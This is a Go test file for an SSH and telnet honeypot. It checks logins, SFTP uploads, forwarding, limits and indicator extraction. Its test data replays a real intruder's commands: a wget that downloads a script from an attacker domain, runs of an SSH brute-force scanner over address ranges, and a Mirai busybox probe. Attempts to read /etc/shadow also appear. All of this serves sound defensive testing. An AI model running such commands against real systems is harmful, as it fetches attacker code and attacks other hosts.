package honeypot

import (
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"io"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/pkg/sftp"
	"golang.org/x/crypto/ssh"

	"github.com/bulkheadhq/bulkhead/internal/honeypot/record"
)

// trap is a honeypot that runs, and what it told.
type trap struct {
	*Honeypot
	dir, ssh, telnet string

	mu      sync.Mutex
	seen    []Observation
	attacks []Attack
}

func (tr *trap) observed(kind Kind) (values []string) {
	tr.mu.Lock()
	defer tr.mu.Unlock()
	for _, o := range tr.seen {
		if o.Kind == kind && !slices.Contains(values, o.Value) {
			values = append(values, o.Value)
		}
	}
	return values
}

func (tr *trap) last() (a Attack) {
	tr.mu.Lock()
	defer tr.mu.Unlock()
	for _, x := range tr.attacks {
		if x.Ended {
			a = x
		}
	}
	return a
}

func (tr *trap) events(t *testing.T, kind string) (out []record.Event) {
	t.Helper()
	err := record.Read(tr.dir, func(e record.Event) bool {
		if e.Kind == kind {
			out = append(out, e)
		}
		return true
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func start(t *testing.T, change func(*Config)) *trap {
	t.Helper()
	tr := &trap{dir: t.TempDir()}
	cfg := Config{
		Dir: tr.dir, FailDelay: -1,
		Observe: func(o Observation) { tr.mu.Lock(); tr.seen = append(tr.seen, o); tr.mu.Unlock() },
		Attack:  func(a Attack) { tr.mu.Lock(); tr.attacks = append(tr.attacks, a); tr.mu.Unlock() },
	}
	if change != nil {
		change(&cfg)
	}
	h, err := Open(cfg)
	if err != nil {
		t.Fatal(err)
	}
	tr.Honeypot = h
	ctx, cancel := context.WithCancel(t.Context())
	var serving sync.WaitGroup
	for protocol, addr := range map[string]*string{"ssh": &tr.ssh, "telnet": &tr.telnet} {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		*addr = l.Addr().String()
		serving.Go(func() {
			if err := h.Serve(ctx, l, protocol); err != nil {
				t.Error(err)
			}
		})
	}
	t.Cleanup(func() {
		cancel()
		serving.Wait()
		if err := h.Close(); err != nil {
			t.Error(err)
		}
	})
	return tr
}

func dial(t *testing.T, addr, user, password string) (*ssh.Client, error) {
	t.Helper()
	return ssh.Dial("tcp", addr, &ssh.ClientConfig{
		User: user, Auth: []ssh.AuthMethod{ssh.Password(password)}, HostKeyCallback: ssh.InsecureIgnoreHostKey(), Timeout: 10 * time.Second, //nolint:gosec // the decoy
	})
}

func signIn(t *testing.T, tr *trap) *ssh.Client {
	t.Helper()
	c, err := dial(t, tr.ssh, "cassandra", "cassandra")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	return c
}

func output(t *testing.T, c *ssh.Client, line string) string {
	t.Helper()
	s, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	b, _ := s.CombinedOutput(line)
	return string(b)
}

// seedCommands are what the intruder of the post of 24 November 2018 typed.
var seedCommands = []string{
	"chmod +x 1 cyberinfo cybernetikrandom go h4e petarda port pscan2 screen speedtestvps.py sshd",
	"chmod +x a all classes co gasite.txt hu pass range scan.log ssh2 x",
	"/bin/bash ./a 10.49",
	`./ssh2 1500 -b 10.49 pass 22 "uname -a & lscpu"`,
	"/bin/bash ./a 172.66",
	`./ssh2 1500 -b 172.66 pass 22 "uname -a & lscpu"`,
	"wget http://nasapaul.com/speedtestvps.py",
	"nano gasite.txt",
}

// TestSeed: the intrusion of the seed, typed into a shell, is recorded and comes back as indicators.
func TestSeed(t *testing.T) {
	t.Parallel()
	tr := start(t, nil)
	c := signIn(t, tr)
	s, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := s.RequestPty("xterm", 30, 100, nil); err != nil {
		t.Fatal(err)
	}
	in, _ := s.StdinPipe()
	var out bytes.Buffer
	s.Stdout = &out
	if err := s.Shell(); err != nil {
		t.Fatal(err)
	}
	for _, line := range append(slices.Clone(seedCommands), "whoami", "exit") {
		if _, err := io.WriteString(in, line+"\r"); err != nil {
			t.Fatal(err)
		}
	}
	_ = s.Wait()
	c.Close()
	for _, want := range []string{"cassandra@" + tr.persona.Hostname + ":~$ ", "\r\ncassandra\r\n", "chmod: cannot access 'cyberinfo': No such file or directory", "resolve host address ‘nasapaul.com’"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("%q isn't in what was shown:\n%s", want, &out)
		}
	}
	waitFor(t, func() bool { return tr.last().Ended })
	if diff := cmp.Diff(append(slices.Clone(seedCommands), "whoami", "exit"), tr.last().Lines); diff != "" {
		t.Error(diff)
	}
	shingles := tr.observed(Shingle)
	for _, want := range []string{
		"chmod +x # cyberinfo cybernetikrandom go h#e petarda port pscan# screen speedtestvps.py sshd",
		"chmod +x a all classes co gasite.txt hu pass range scan.log ssh# x",
		"ssh# # -b %net pass # uname -a & lscpu",
	} {
		if !slices.Contains(shingles, want) {
			t.Errorf("%q isn't among the shingles %q", want, shingles)
		}
	}
	for kind, want := range map[Kind]string{Domain: "nasapaul.com", URL: "http://nasapaul.com/speedtestvps.py", Credential: "cassandra:cassandra", Address: "127.0.0.1"} {
		if got := tr.observed(kind); !slices.Contains(got, want) {
			t.Errorf("%s %q isn't among %q", kind, want, got)
		}
	}
	if h := tr.observed(HASSH); len(h) != 1 || len(h[0]) != 32 {
		t.Errorf("HASSH %q", h)
	}
	casts, _ := filepath.Glob(filepath.Join(tr.dir, "casts", "*.cast"))
	if len(casts) != 1 {
		t.Fatalf("%d recordings, want 1", len(casts))
	}
	checkCast(t, casts[0], "gasite.txt")
}

// checkCast reads a recording as asciicast v2 has it: what was shown, and in order of time.
func checkCast(t *testing.T, name, shown string) {
	t.Helper()
	b, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(string(b)), "\n")
	var head struct{ Version, Width, Height int }
	if err := json.Unmarshal([]byte(lines[0]), &head); err != nil || head.Version != 2 || head.Width != 100 || head.Height != 30 {
		t.Errorf("header %s: %v", lines[0], err)
	}
	var text strings.Builder
	at := -1.0
	for _, l := range lines[1:] {
		var e [3]any
		if err := json.Unmarshal([]byte(l), &e); err != nil {
			t.Fatal(err)
		}
		if now := e[0].(float64); now < at {
			t.Errorf("time goes back to %v", now)
		} else {
			at = now
		}
		if e[1] == "o" {
			text.WriteString(e[2].(string))
		}
	}
	if !strings.Contains(text.String(), shown) {
		t.Errorf("%q isn't in the recording", shown)
	}
}

func waitFor(t *testing.T, ok func() bool) {
	t.Helper()
	for range 3000 {
		if ok() {
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Fatal("it didn't come to that")
}

func TestLogins(t *testing.T) {
	t.Parallel()
	tr := start(t, func(c *Config) { c.Policy = Policy{Credentials: []string{"root:*", "*:letmein"}, OneIn: 0} })
	for _, x := range []struct {
		user, password string
		want           bool
	}{{"root", "anything", true}, {"nobody2", "letmein", true}, {"cassandra", "cassandra", false}, {"x:y", "letmein", false}} {
		c, err := dial(t, tr.ssh, x.user, x.password)
		if (err == nil) != x.want {
			t.Errorf("%s/%s: %v, want accepted %v", x.user, x.password, err, x.want)
		}
		if c != nil {
			if x.user == "nobody2" {
				if got := output(t, c, "id; grep -c nobody2 /etc/passwd"); got != "uid=1002(nobody2) gid=1002(nobody2) groups=1002(nobody2)\n1\n" {
					t.Errorf("id: %q", got)
				}
			}
			c.Close()
		}
	}
	logins := tr.events(t, "login")
	if len(logins) != 4 || *logins[2].Accepted || logins[0].User != "root" || logins[0].Password != "anything" {
		t.Errorf("logins: %+v", logins)
	}
}

func TestOneIn(t *testing.T) {
	t.Parallel()
	p := Policy{OneIn: 10}
	seed := [32]byte{1}
	n := 0
	for i := range 2000 {
		pw := strings.Repeat("x", i%50) + string(rune('a'+i/50))
		ok := p.accepts(seed, netipAddr("192.0.2.1"), "root", pw)
		if ok != p.accepts(seed, netipAddr("192.0.2.1"), "root", pw) {
			t.Fatal("the draw changes")
		}
		if ok {
			n++
		}
	}
	if n < 140 || n > 260 {
		t.Errorf("%d of 2000 accepted, want about 200", n)
	}
}

// TestFilesStay: what a source wrote is there at its next visit.
func TestFilesStay(t *testing.T) {
	t.Parallel()
	tr := start(t, nil)
	c := signIn(t, tr)
	output(t, c, "echo secret > /tmp/mine; mkdir /tmp/kit")
	c.Close()
	if got := output(t, signIn(t, tr), "cat /tmp/mine; ls -d /tmp/kit"); got != "secret\n/tmp/kit\n" {
		t.Errorf("got %q", got)
	}
}

func TestSFTP(t *testing.T) {
	t.Parallel()
	tr := start(t, nil)
	c := signIn(t, tr)
	f, err := sftp.NewClient(c)
	if err != nil {
		t.Fatal(err)
	}
	body := []byte("\x7fELF kit " + strings.Repeat("z", 70000))
	w, err := f.Create("/tmp/kit.bin")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(body); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := f.Chmod("/tmp/kit.bin", 0o755); err != nil {
		t.Fatal(err)
	}
	i, err := f.Stat("/tmp/kit.bin")
	if err != nil || i.Size() != int64(len(body)) || i.Mode().Perm() != 0o755 {
		t.Errorf("%v %v", i, err)
	}
	if _, err := f.Create("/etc/evil"); err == nil {
		t.Error("an account without rights wrote into /etc")
	}
	if _, err := f.Open("/etc/shadow"); err == nil {
		t.Error("an account without rights read /etc/shadow")
	}
	r, err := f.Open("/etc/hostname")
	if err != nil {
		t.Fatal(err)
	}
	if b, _ := io.ReadAll(r); string(b) != tr.persona.Hostname+"\n" {
		t.Errorf("hostname %q", b)
	}
	f.Close()
	hashes := tr.observed(SHA256)
	if len(hashes) != 1 {
		t.Fatalf("hashes %q", hashes)
	}
	kept, err := os.ReadFile(filepath.Join(tr.dir, "uploads", hashes[0]))
	if err != nil || !bytes.Equal(kept, body) {
		t.Errorf("%d bytes kept, %v", len(kept), err)
	}
}

// TestForward: nobody gets anywhere through here, but where to is known.
func TestForward(t *testing.T) {
	t.Parallel()
	tr := start(t, nil)
	c := signIn(t, tr)
	if n, err := c.Dial("tcp", "198.51.100.4:25"); err == nil {
		n.Close()
		t.Error("a forward was opened")
	}
	if l, err := c.Listen("tcp", "0.0.0.0:9000"); err == nil {
		l.Close()
		t.Error("a port is listened on for a visitor")
	}
	var got []string
	for _, e := range tr.events(t, "forward") {
		got = append(got, e.How+" "+e.Target)
	}
	if diff := cmp.Diff([]string{"direct 198.51.100.4:25", "remote 0.0.0.0:9000"}, got); diff != "" {
		t.Error(diff)
	}
}

func TestLimits(t *testing.T) {
	t.Parallel()
	tr := start(t, func(c *Config) {
		c.Limits = Limits{PerSource: 2, Session: 2 * time.Second, BytesIn: 200 << 10}
	})
	a, b := signIn(t, tr), signIn(t, tr)
	if c, err := dial(t, tr.ssh, "cassandra", "cassandra"); err == nil {
		c.Close()
		t.Error("a third connection was let in")
	}
	began := time.Now()
	output(t, a, "sleep 3600")
	if took := time.Since(began); took > 10*time.Second {
		t.Errorf("a session of 2 s took %s", took)
	}
	s, err := b.NewSession()
	if err == nil {
		s.Stdin = bytes.NewReader(make([]byte, 1<<20))
		if err := s.Run("cat > /tmp/big"); err == nil {
			t.Error("more bytes came in than are allowed")
		}
	}
}

func TestNotSSH(t *testing.T) {
	t.Parallel()
	tr := start(t, nil)
	c, err := net.Dial("tcp", tr.ssh)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_, _ = io.WriteString(c, "GET / HTTP/1.0\r\n\r\n")
	b, _ := io.ReadAll(c)
	if want := tr.persona.System.SSH + "\r\nInvalid SSH identification string.\r\n"; string(b) != want {
		t.Errorf("got %q, want %q", b, want)
	}
	waitFor(t, func() bool { return len(tr.events(t, "client")) == 1 })
	if got := tr.events(t, "client")[0].Banner; got != "GET / HTTP/1.0" {
		t.Errorf("banner %q", got)
	}
}

func TestTelnet(t *testing.T) {
	t.Parallel()
	tr := start(t, nil)
	c, err := net.Dial("tcp", tr.telnet)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	say := func(s string) {
		if _, err := io.WriteString(c, s); err != nil {
			t.Fatal(err)
		}
	}
	say("\xff\xfd\x01\xff\xfd\x03\xff\xfb\x18\xff\xfa\x18\x00XTERM\xff\xf0\xff\xfb\x1f\xff\xfa\x1f\x00\x64\x00\x1e\xff\xf0")
	say("root\r\x00wrong\r\nroot\r\n123456\r\n")
	say("enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\nexit\r\n")
	b, err := io.ReadAll(c)
	if err != nil {
		t.Fatal(err)
	}
	got := string(b)
	for _, want := range []string{tr.persona.Issue() + "\r\n" + tr.persona.Hostname + " login: ", "Password: ", "Login incorrect", "root@" + tr.persona.Hostname + ":~# ", "MIRAI: applet not found\r\n"} {
		if !strings.Contains(got, want) {
			t.Errorf("%q isn't in %q", want, got)
		}
	}
	if strings.Contains(got, "123456") {
		t.Error("the password was echoed")
	}
	casts, _ := filepath.Glob(filepath.Join(tr.dir, "casts", "*.cast"))
	if len(casts) != 1 {
		t.Fatalf("%d recordings", len(casts))
	}
	checkCast(t, casts[0], "MIRAI")
}

// TestPersonaStays: another start is the same machine; another installation is another.
func TestPersonaStays(t *testing.T) {
	t.Parallel()
	tr := start(t, nil)
	again, err := Open(Config{Dir: tr.dir})
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(tr.persona, again.persona); diff != "" {
		t.Error(diff)
	}
	if !bytes.Equal(again.keys[2].PublicKey().Marshal(), tr.keys[2].PublicKey().Marshal()) {
		t.Error("the host key changed")
	}
	other := start(t, nil)
	if other.persona.Hostname == tr.persona.Hostname && other.persona.Address == tr.persona.Address {
		t.Error("two installations have the same persona")
	}
}

func TestQuota(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	r, err := record.Open(dir, 100<<10, func() time.Time { return time.Now().UTC() })
	if err != nil {
		t.Fatal(err)
	}
	for i := range 100 {
		if _, err := r.Keep(bytes.Repeat([]byte{byte(i)}, 10<<10)); err != nil {
			t.Fatal(err)
		}
		r.Event(record.Event{Kind: "note", Text: strings.Repeat("x", 10000)})
	}
	var total int64
	_ = filepath.WalkDir(dir, func(_ string, d os.DirEntry, _ error) error {
		if i, err := d.Info(); err == nil && !d.IsDir() {
			total += i.Size()
		}
		return nil
	})
	if total > 100<<10 || total < 50<<10 {
		t.Errorf("%d bytes are kept of a quota of %d", total, 100<<10)
	}
}

func FuzzKexInit(f *testing.F) {
	body := append([]byte{20}, make([]byte, 16)...)
	for _, l := range []string{"curve25519-sha256", "ssh-ed25519", "aes128-ctr", "aes128-ctr", "hmac-sha2-256", "hmac-sha2-256", "none", "none", "", ""} {
		body = append(binary.BigEndian.AppendUint32(body, uint32(len(l))), l...)
	}
	body = append(body, 0, 0, 0, 0, 0)
	packet := append(binary.BigEndian.AppendUint32(nil, uint32(len(body)+1+4)), 4)
	packet = append(append(packet, body...), 0, 0, 0, 0)
	if offers, ok := parseKexInit(packet); !ok || offers != "curve25519-sha256;aes128-ctr;hmac-sha2-256;none" {
		f.Fatalf("%q %v", offers, ok)
	}
	f.Add(packet)
	f.Fuzz(func(t *testing.T, b []byte) { parseKexInit(b) })
}

func FuzzTelnet(f *testing.F) {
	f.Add([]byte("root\r\n\xff\xfd\x01\xff\xfa\x18\x00XT\xff\xffERM\xff\xf0x"))
	f.Fuzz(func(t *testing.T, b []byte) {
		var n negotiator
		data, reply := n.feed(b)
		if len(data) > len(b) || len(reply) > 6*len(b) || len(n.sub) > maxSub {
			t.Errorf("%d bytes became %d of data and %d of answers", len(b), len(data), len(reply))
		}
		if _, again := n.feed(b); len(b) < 100 && n.state == 0 && len(again) > len(reply)+6 {
			t.Error("the same options are answered again")
		}
	})
}

func FuzzConsole(f *testing.F) {
	f.Add([]byte("ls -la\r\x1b[A\x1b[B\x7f\x15\x17\x03\x04"))
	f.Fuzz(func(t *testing.T, b []byte) {
		c := newConsole(bytes.NewReader(b), io.Discard, nothing{})
		defer c.close()
		for range len(b) + 2 {
			if _, err := c.line(t.Context(), "$ "); err != nil && err != io.EOF {
				t.Fatal(err)
			} else if err != nil {
				select {
				case <-c.gone:
					return
				default:
				}
			}
		}
	})
}

func netipAddr(s string) netip.Addr { return netip.MustParseAddr(s) }
